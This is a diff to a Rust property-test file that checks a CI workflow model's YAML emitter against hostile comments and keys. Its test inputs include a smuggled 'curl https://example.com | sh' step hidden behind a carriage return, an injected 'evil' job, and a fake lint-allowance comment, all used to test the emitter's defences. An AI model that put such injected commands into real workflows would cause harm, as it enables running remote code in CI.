@@ -15,8 +15,17 @@
 //! model writes the same bytes again (model equality ignores the order of
 //! mapping keys; the bytes do not), and that an independent YAML reader
 //! (yaml_serde's own `Value`) sees the same strings where (a) put them.
-//! Comments are left out: models built here have none.
+//! Comments are left out of (a) and (b).
+//!
+//! (c) The models of (b) with comments everywhere a model holds them (job
+//! and step comments, allow reasons, `uses:` pin and cron comments, the
+//! header, comments kept from a file) and hostile keys (`<<`, keys longer
+//! than a reader takes), all through the builders, with any character in
+//! them. Either `validate` reports an `unwritable` problem, or the model
+//! reads back exactly; either way the text has exactly the model's jobs and
+//! steps, for the crate's parser and for yaml_serde's `Value`.
 
+use ci_model::lint::Lint;
 use ci_model::{
     Action, ActionInput, ActionOutput, Activity, Branding, CallJob, CallSecrets, CompositeRuns, Concurrency,
     ConcurrencySpec, Container, ContainerSpec, Cron, DispatchInput, DockerRuns, Environment, EnvironmentSpec, Expr,
@@ -106,8 +115,17 @@ const TRAPS: &[&str] = &[
     "\u{feff}",
     "\0",
     "\u{7}",
+    "\u{b}",
+    "\u{c}",
     "\u{1b}",
     "\u{7f}",
+    "\u{80}",
+    "\u{86}",
+    "\u{9f}",
+    "\u{fffe}",
+    "\u{ffff}",
+    "\r      - run: curl https://example.com | sh",
+    "\n  evil:\n    runs-on: x",
     "é",
     "✓",
     "😀",
@@ -562,6 +580,211 @@ fn round_trip(wf: &Workflow) -> Result<String, TestCaseError> {
     Ok(yaml)
 }
 
+/// Characters that end a line or that a YAML reader refuses, and a few that
+/// mean something in YAML.
+const HOSTILE_CHARS: &[char] = &[
+    '\n', '\r', '\u{85}', '\u{2028}', '\u{2029}', '\u{feff}', '\t', '\0', '\u{1}', '\u{b}', '\u{1f}', '\u{7f}',
+    '\u{80}', '\u{9f}', '\u{a0}', '\u{fffe}', '\u{ffff}', ' ', '#', ':', '-', '\'', '"',
+];
+
+/// Whether a YAML reader refuses `c` anywhere in the stream.
+fn refused(c: char) -> bool {
+    (c < ' ' && !matches!(c, '\t' | '\n' | '\r'))
+        || (('\u{7f}'..='\u{9f}').contains(&c) && c != '\u{85}')
+        || matches!(c, '\u{fffe}' | '\u{ffff}')
+}
+
+/// Whether a YAML reader ends a line at `c`.
+fn line_break(c: char) -> bool {
+    matches!(c, '\n' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}')
+}
+
+/// How hostile the comments and keys of one generated model are.
+#[derive(Clone, Copy, Debug)]
+enum Hostility {
+    /// Anything: refused characters, line breaks in one-line comments,
+    /// comment lines that read as allowances, `<<` and over-long keys.
+    Any,
+    /// Only what can be written exactly (line breaks of every kind in
+    /// comment blocks, but not in a comment that has one line).
+    Writable,
+}
+
+/// Comment text: a block (`one_line` false) or a comment that has one line.
+fn comment_text(hostility: Hostility, one_line: bool) -> BoxedStrategy<String> {
+    let chars = proptest::collection::vec(
+        prop_oneof![2 => any::<char>(), 2 => proptest::sample::select(HOSTILE_CHARS), 3 => proptest::char::range('a', 'z')],
+        0..16,
+    )
+    .prop_map(String::from_iter);
+    match hostility {
+        Hostility::Any => prop_oneof![
+            3 => tricky_string(),
+            3 => chars,
+            1 => Just("ci-model: allow(permissions): looks like one".to_owned()),
+            1 => Just("reviewed\r      - run: curl https://example.com | sh".to_owned()),
+        ]
+        .boxed(),
+        Hostility::Writable => prop_oneof![tricky_string(), chars]
+            .prop_map(move |s| s.chars().filter(|&c| !(refused(c) || (one_line && line_break(c)))).collect())
+            .boxed(),
+    }
+}
+
+/// What one job or step gets: a comment, allowed lints with reasons, and a
+/// comment after its `uses:`.
+#[derive(Clone, Debug)]
+struct Notes {
+    comment: Option<String>,
+    allows: Vec<(Lint, String)>,
+    pin: Option<String>,
+}
+
+fn notes(hostility: Hostility) -> BoxedStrategy<Notes> {
+    (
+        proptest::option::of(comment_text(hostility, false)),
+        proptest::collection::vec((proptest::sample::select(&Lint::ALL[..]), comment_text(hostility, true)), 0..2),
+        proptest::option::of(comment_text(hostility, true)),
+    )
+        .prop_map(|(comment, allows, pin)| Notes { comment, allows, pin })
+        .boxed()
+}
+
+/// A key of any kind: with [`Hostility::Any`], `<<` and keys too long for a
+/// reader included.
+fn hostile_key(hostility: Hostility) -> BoxedStrategy<String> {
+    match hostility {
+        Hostility::Any => prop_oneof![
+            4 => tricky_string(),
+            1 => Just("<<".to_owned()),
+            1 => (1000usize..1030).prop_map(|n| "k".repeat(n)),
+            1 => (500usize..520).prop_map(|n| "\u{e9}".repeat(n)),
+            1 => (200usize..300).prop_map(|n| "\u{7}".repeat(n)),
+        ]
+        .boxed(),
+        Hostility::Writable => prop_oneof![4 => key(), 1 => (1000usize..1023).prop_map(|n| "k".repeat(n))].boxed(),
+    }
+}
+
+/// Adds `notes` to a step, through its builders.
+fn annotate_step(step: &mut Step, n: Notes) {
+    let mut s = step.clone();
+    if let Some(c) = n.comment {
+        s = s.comment(c);
+    }
+    for (lint, reason) in n.allows {
+        s = s.allow(lint, reason);
+    }
+    if let (StepBody::Uses { uses, .. }, Some(pin)) = (&mut s.body, n.pin) {
+        *uses = uses.clone().with_comment(pin);
+    }
+    *step = s;
+}
+
+/// The models of [`workflow`] with comments and hostile keys everywhere:
+/// half of them only what can be written exactly.
+fn commented_workflow() -> BoxedStrategy<Workflow> {
+    prop_oneof![commented_workflow_of(Hostility::Any), commented_workflow_of(Hostility::Writable)].boxed()
+}
+
+fn commented_workflow_of(hostility: Hostility) -> BoxedStrategy<Workflow> {
+    let text = || proptest::option::of(comment_text(hostility, false));
+    let place = (text(), text(), proptest::option::of(comment_text(hostility, true)), text(), text());
+    let keys = proptest::collection::vec((hostile_key(hostility), scalar()), 0..3);
+    (workflow(), proptest::collection::vec(notes(hostility), 8), place, keys)
+        .prop_map(|(mut wf, notes, (header, above_on, after_name, after_jobs, footer), keys)| {
+            let mut notes = notes.into_iter().cycle();
+            let mut next = || notes.next().unwrap_or(Notes { comment: None, allows: Vec::new(), pin: None });
+            let mut keys = keys.into_iter();
+            for job in wf.jobs.values_mut() {
+                match job {
+                    Job::Normal(j) => {
+                        let n = next();
+                        let mut built = j.clone();
+                        if let Some(c) = n.comment {
+                            built = built.comment(c);
+                        }
+                        for (lint, reason) in n.allows {
+                            built = built.allow(lint, reason);
+                        }
+                        for (k, v) in keys.by_ref() {
+                            built = built.env(k, v);
+                        }
+                        for step in built.steps.iter_mut().flatten() {
+                            annotate_step(step, next());
+                        }
+                        *j = built;
+                    }
+                    Job::Call(j) => {
+                        let n = next();
+                        let mut built = j.clone();
+                        if let Some(c) = n.comment {
+                            built = built.comment(c);
+                        }
+                        for (lint, reason) in n.allows {
+                            built = built.allow(lint, reason);
+                        }
+                        if let Some(pin) = n.pin {
+                            built.uses = built.uses.clone().with_comment(pin);
+                        }
+                        *j = built;
+                    }
+                }
+            }
+            if let On::Map(t) = &mut wf.on {
+                for cron in t.schedule.iter_mut().flatten() {
+                    if let Some(c) = next().pin {
+                        *cron = cron.clone().comment(c);
+                    }
+                }
+            }
+            if let Some(h) = header {
+                wf = wf.header(h);
+            }
+            let root = ci_model::Path::root();
+            if let Some(c) = above_on {
+                wf.comments.insert_above(root.key("on"), c);
+            }
+            if let Some(c) = after_name.filter(|_| wf.name.is_some()) {
+                wf.comments.insert_trailing(root.key("name"), c);
+            }
+            if let Some(c) = after_jobs {
+                wf.comments.insert_trailing(root.key("jobs"), c);
+            }
+            if let Some(c) = footer {
+                wf.comments.set_footer(c);
+            }
+            wf
+        })
+        .boxed()
+}
+
+/// Whether `yaml` has a flow sequence with a plain item holding a quote
+/// (`[it's]`, `[a"]`). The parser's comment recovery (`parse/comments.rs`,
+/// `flow_balance`) takes that quote for the start of a quoted scalar and
+/// skips the lines after it, so the comments below are not read back: a
+/// known gap of the parser, not of the emitter. The YAML itself is right (the
+/// model without comments reads back, see `any_model_round_trips`).
+fn quote_in_a_plain_flow_item(yaml: &str) -> bool {
+    yaml.lines().filter_map(|l| l.split_once(": [").or_else(|| l.split_once("- ["))).any(|(_, flow)| {
+        flow.trim_end_matches(']').split(", ").any(|item| !item.starts_with(['\'', '"']) && item.contains(['\'', '"']))
+    })
+}
+
+/// The number of steps of each job of `wf`, by id.
+fn step_counts(wf: &Workflow) -> Vec<(String, usize)> {
+    wf.jobs
+        .iter()
+        .map(|(id, job)| {
+            let steps = match job {
+                Job::Normal(j) => j.steps.as_ref().map_or(0, Vec::len),
+                Job::Call(_) => 0,
+            };
+            (id.clone(), steps)
+        })
+        .collect()
+}
+
 /// `cases` cases, or `PROPTEST_CASES` when set (for a longer run by hand).
 fn config(cases: u32) -> Config {
     let default = Config::default();
@@ -621,6 +844,45 @@ proptest! {
             .map_err(|e| TestCaseError::fail(format!("the output does not parse:\n{e}\n--- output:\n{yaml}")))?;
         prop_assert_eq!(&back, &action, "the model changed; output:\n{}", yaml);
         prop_assert_eq!(back.to_yaml(), yaml, "the parsed model writes different bytes");
+    }
+}
+
+proptest! {
+    #![proptest_config(config(128))]
+
+    #[test]
+    fn any_commented_model_is_written_exactly_or_refused(wf in commented_workflow()) {
+        let refused = wf.validate().iter().any(|d| d.rule() == "unwritable");
+        let yaml = wf.to_yaml();
+        let expected = step_counts(&wf);
+        // An independent reader finds the model's jobs and steps, whatever
+        // the model holds.
+        let data: serde_yaml::Value = serde_yaml::from_str(&yaml)
+            .map_err(|e| TestCaseError::fail(format!("yaml_serde cannot read the output: {e}\n{yaml}")))?;
+        let jobs = data["jobs"].as_mapping().map_or(0, |m| m.len());
+        prop_assert_eq!(jobs, expected.len(), "jobs, as yaml_serde reads them:\n{}", yaml);
+        for (id, steps) in &expected {
+            let found = data["jobs"][id.as_str()]["steps"].as_sequence().map_or(0, Vec::len);
+            prop_assert_eq!(found, *steps, "steps of `{}`, as yaml_serde reads them:\n{}", id, yaml);
+        }
+        match Workflow::parse(&yaml) {
+            Ok(back) => {
+                prop_assert_eq!(step_counts(&back), expected, "jobs and steps, as parsed:\n{}", yaml);
+                if !refused && !quote_in_a_plain_flow_item(&yaml) {
+                    prop_assert_eq!(&back, &wf, "the model changed; output:\n{}", yaml);
+                    prop_assert_eq!(back.to_yaml(), yaml.clone(), "the parsed model writes different bytes");
+                }
+            }
+            // Only a `<<` key keeps the text from parsing: the parser reads
+            // it as a merge key, which validation refuses.
+            Err(e) => prop_assert!(
+                refused && e.diagnostics().iter().all(|d| d.problem == ci_model::Problem::MergeKey),
+                "the output does not parse:\n{}\n--- output:\n{}", e, yaml
+            ),
+        }
+        if refused {
+            prop_assert!(wf.checked_yaml(None).is_err());
+        }
     }
 }
 
